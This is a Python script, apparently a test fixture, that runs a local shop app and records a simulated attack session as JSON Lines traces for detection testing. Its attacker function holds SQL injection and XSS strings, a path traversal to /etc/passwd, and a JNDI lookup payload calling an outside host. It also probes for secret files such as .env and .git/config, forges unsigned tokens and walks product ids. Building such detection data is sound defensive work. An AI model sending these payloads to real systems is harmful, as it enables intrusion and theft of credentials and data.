"""Records an attack session against tests/browser/shop_app.py as Palisade JSON Lines.

Three ordinary users browse the shop with their own tokens while a fourth actor runs a
scanner against it and then walks product ids. Every request goes to the shop app on
127.0.0.1, started by this script; each exchange is written as one trace with the real
response.

Usage: python record_attack_session.py OUTPUT.jsonl
"""

import base64
import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
APP = os.path.join(os.path.dirname(HERE), "browser", "shop_app.py")


def token(subject):
    """An unsigned JWT whose subject names the user; the shop app does not check it."""
    def part(value):
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
    return f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part({'sub': subject})}.c2lnbmF0dXJl"


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Recorder:
    def __init__(self, base, out):
        self.base = base
        self.out = out
        self.clock = 1_767_225_600_000  # 2026-01-01T00:00:00Z, advanced per request

    def send(self, method, path, headers=None, body=None, form=None, step_ms=1500):
        url = self.base + path
        headers = dict(headers or {})
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        elif form is not None:
            data = urllib.parse.urlencode(form).encode()
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        request = urllib.request.Request(url, data=data, method=method, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                status, response_headers, response_body = response.status, response.getheaders(), response.read()
        except urllib.error.HTTPError as error:
            status, response_headers, response_body = error.code, error.headers.items(), error.read()

        self.clock += step_ms
        trace = {
            "request": {
                "method": method,
                "url": url,
                "headers": [{"name": k, "value": v} for k, v in headers.items()],
            },
            "response": {
                "status": status,
                "headers": [{"name": k, "value": v} for k, v in response_headers],
                "body": response_body.decode("utf-8", "replace"),
            },
            "meta": {"start_time": self.clock, "client": {"address": "127.0.0.1"}},
        }
        if data is not None:
            trace["request"]["body"] = data.decode()
        self.out.write(json.dumps(trace, separators=(",", ":")) + "\n")


def ordinary_users(recorder, rounds):
    for round_number in range(rounds):
        for user in ("alice", "bob", "carol"):
            auth = {"Authorization": f"Bearer {token(user)}", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0"}
            recorder.send("GET", "/api/users/me", auth)
            recorder.send("GET", "/api/products?category=books&page=1", auth)
            recorder.send("GET", f"/api/products/{(101, 102, 203)[round_number % 3]}", auth)
            recorder.send("GET", "/api/search?q=rust+book", auth)


def attacker(recorder):
    scanner = {"Authorization": f"Bearer {token('mallory')}", "User-Agent": "sqlmap/1.8.4#stable (https://sqlmap.org)"}
    # Injection probes.
    for query in ["rust' OR '1'='1", "1 UNION SELECT username, password FROM users--", "<script>alert(1)</script>"]:
        recorder.send("GET", "/api/search?" + urllib.parse.urlencode({"q": query}), scanner, step_ms=200)
    recorder.send("GET", "/static/..%2f..%2f..%2fetc%2fpasswd", scanner, step_ms=200)
    recorder.send("POST", "/api/cart/items", scanner, body={"product_id": "${jndi:ldap://203.0.113.9/a}", "quantity": 1}, step_ms=200)
    # Looking for files that are not there.
    for name in ["admin.php", "wp-login.php", ".env", "config.yml", "backup.zip", "phpmyadmin", "server-status",
                 ".git/config", "debug", "console", "actuator/env", "api/v2/users", "graphql", "swagger.json",
                 "admin/login", "login.jsp", "cgi-bin/test.cgi", "old", "test", "staging", "db.sql", "dump.sql"]:
        recorder.send("GET", "/" + name, scanner, step_ms=100)
    # Walking product ids.
    browser = {"Authorization": scanner["Authorization"], "User-Agent": "python-requests/2.32.3"}
    for product_id in range(95, 130):
        recorder.send("GET", f"/api/products/{product_id}", browser, step_ms=100)


def main():
    output = sys.argv[1]
    port = free_port()
    app = subprocess.Popen([sys.executable, APP], env=dict(os.environ, APP_PORT=str(port)),
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        base = f"http://127.0.0.1:{port}"
        for _ in range(50):
            try:
                urllib.request.urlopen(base + "/", timeout=1)
                break
            except OSError:
                time.sleep(0.2)
        with open(output, "w") as out:
            recorder = Recorder(base, out)
            ordinary_users(recorder, rounds=4)
            attacker(recorder)
            ordinary_users(recorder, rounds=2)
        print(f"recorded {output}")
    finally:
        app.terminate()
        app.wait(timeout=10)


if __name__ == "__main__":
    main()
